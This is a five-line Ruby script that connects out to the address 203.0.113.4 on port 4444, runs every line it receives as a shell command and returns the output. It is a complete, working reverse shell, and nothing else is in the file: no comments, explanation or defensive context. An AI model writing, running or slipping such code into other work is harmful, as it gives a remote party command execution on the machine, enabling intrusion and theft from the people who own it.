require 'socket'
c = TCPSocket.new('203.0.113.4', 4444)
while (cmd = c.gets)
  IO.popen(cmd, 'r') { |io| c.print io.read }
end
